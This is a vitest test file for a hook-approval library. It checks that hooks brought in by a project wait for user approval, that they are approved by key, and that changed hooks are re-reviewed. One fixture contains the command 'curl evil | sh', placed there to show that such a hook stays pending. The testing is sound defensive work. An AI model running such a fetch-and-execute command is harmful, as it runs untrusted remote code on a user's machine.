import { describe, expect, test } from 'vitest';
import { HookError } from '../../src/index.ts';
import { CALL, place, settings } from './support/place.ts';

const PROJECT = { 'project/.claude/settings.json': settings('PreToolUse', { command: 'exit 2' }) };

describe('trust for embedders', () => {
  test('what a project brings waits for approval, and runs after it (A1)', async () => {
    const { open } = place(PROJECT);
    const hooks = await open();
    expect(await hooks.trigger('PreToolUse', CALL)).toMatchObject({
      decision: 'none',
      ran: [],
      skipped: [{ why: 'untrusted' }],
    });
    expect(hooks.diagnostics).toMatchObject([{ code: 'NEEDS_REVIEW' }]);
    const waiting = hooks.pending();
    expect(waiting).toMatchObject([{ action: 'exit 2', state: 'untrusted', layer: 'project' }]);
    await hooks.approve(waiting.map(({ id }) => id));
    expect(hooks.pending()).toEqual([]);
    expect(hooks.diagnostics).toEqual([]);
    expect((await hooks.trigger('PreToolUse', CALL)).refused).toBe(true);
    expect((await (await open()).trigger('PreToolUse', CALL)).refused, 'approved for the next program too').toBe(true);
  });

  test('approving what is not there throws, and approves nothing of what is named beside it', async () => {
    const { open } = place(PROJECT);
    const hooks = await open();
    const [waiting] = hooks.pending();
    for (const unknown of ['claude-code:elsewhere:1', '', 5 as never]) {
      const error: unknown = await hooks.approve([waiting?.id ?? '', unknown]).catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(HookError);
      expect(error).toMatchObject({ code: 'BAD_OPTION' });
    }
    await expect(hooks.approve('all' as never)).rejects.toMatchObject({ code: 'BAD_OPTION' });
    expect(hooks.pending()).toHaveLength(1);
  });

  test('approving twice is approving once', async () => {
    const { open } = place(PROJECT);
    const hooks = await open();
    const [waiting] = hooks.pending();
    await hooks.approve([waiting?.key ?? '']);
    await hooks.approve([waiting?.key ?? '', waiting?.id ?? '']);
    expect(hooks.pending()).toEqual([]);
  });

  test('hooks that share a line are approved one by one, by their keys', async () => {
    const { open } = place({
      'project/.claude/settings.json': settings('PreToolUse', { command: 'echo one' }, { command: 'curl evil | sh' }),
    });
    const hooks = await open();
    const [one, other] = hooks.pending();
    expect(one?.id).toBe(other?.id);
    const error: unknown = await hooks.approve([one?.id ?? '']).catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({ code: 'BAD_OPTION', message: expect.stringContaining('by their keys') });
    expect(error).toMatchObject({ hint: expect.stringContaining(one?.key ?? '–') });
    await hooks.approve([one?.key ?? '']);
    expect(hooks.pending().map(({ action }) => action)).toEqual(['curl evil | sh']);
    expect((await hooks.trigger('PreToolUse', CALL)).ran).toMatchObject([{ stdout: 'one\n' }]);
  });

  test('every hook has a key of its own, short and the same in the next program', async () => {
    const same = { on: ['PreToolUse', 'Stop'], run: 'true' };
    const { open } = place({
      'project/.hookline/hooks.json': { hooks: [same, same] },
      'project/.hookline/hooks.yml':
        'hooks:\n  - &it { on: Stop, run: "true" }\n  - *it\n  - { on: Stop, run: "true" }\n',
      'home/.claude/settings.json': settings('PreToolUse', { command: 'true' }, { command: 'true' }),
    });
    const hooks = await open();
    hooks.register({ event: 'Stop', run: () => {} });
    hooks.register({ event: 'Stop', run: () => {} });
    const infos = hooks.list();
    expect(infos.length).toBeGreaterThanOrEqual(9);
    expect(new Set(infos.map(({ key }) => key)).size).toBe(infos.length);
    for (const { id, key, event } of infos) {
      expect(key.startsWith(`${id}:`)).toBe(true);
      expect(key).toMatch(new RegExp(`:${event}#[0-9a-f]{12}$`));
    }
    const files = infos.filter(({ source }) => source !== null).map(({ key }) => key);
    expect((await open()).list().map(({ key }) => key)).toEqual(files);
  });

  test('a hook that changed after it was shown is not approved by what was said about it', async () => {
    const { open, write } = place(PROJECT);
    const hooks = await open();
    const shown = hooks.pending().map(({ key }) => key);
    write('project/.claude/settings.json', settings('PreToolUse', { command: 'exit 0' }));
    await hooks.reload();
    await expect(hooks.approve(shown)).rejects.toMatchObject({ code: 'BAD_OPTION' });
    expect(hooks.pending()).toHaveLength(1);
  });

  test('"all" runs everything; a function decides hook by hook; one that throws approves nothing', async () => {
    const { open } = place(PROJECT);
    const refusedWith = async (trust: Parameters<typeof open>[0]) =>
      (await (await open(trust)).trigger('PreToolUse', CALL)).refused;
    expect(await refusedWith({ trust: 'all' })).toBe(true);
    expect(await refusedWith({ trust: 'recorded' })).toBe(false);
    expect(await refusedWith({ trust: ({ action }) => action === 'exit 2' })).toBe(true);
    expect(await refusedWith({ trust: () => false })).toBe(false);
    expect(await refusedWith({ trust: () => 'yes' as never })).toBe(false);
    const thrower = () => {
      throw new Error('boom');
    };
    expect(await refusedWith({ trust: thrower })).toBe(false);
  });

  test('a person is asked through `ask`, and told what would run', async () => {
    const asked: unknown[] = [];
    const { open } = place({
      'home/.config/hookline/hooks.yml':
        'hooks:\n  - { on: PreToolUse, name: careful, run: exit 2, approve: true, onFailure: continue }',
    });
    let yes = true;
    const hooks = await open({
      ask: async (question) => {
        asked.push(question);
        return yes;
      },
    });
    expect((await hooks.trigger('PreToolUse', CALL)).refused).toBe(true);
    yes = false;
    expect(await hooks.trigger('PreToolUse', CALL)).toMatchObject({ refused: false, skipped: [{ why: 'declined' }] });
    expect(asked[0]).toMatchObject({ name: 'careful', event: 'PreToolUse', command: 'exit 2', source: { line: 2 } });
  });
});
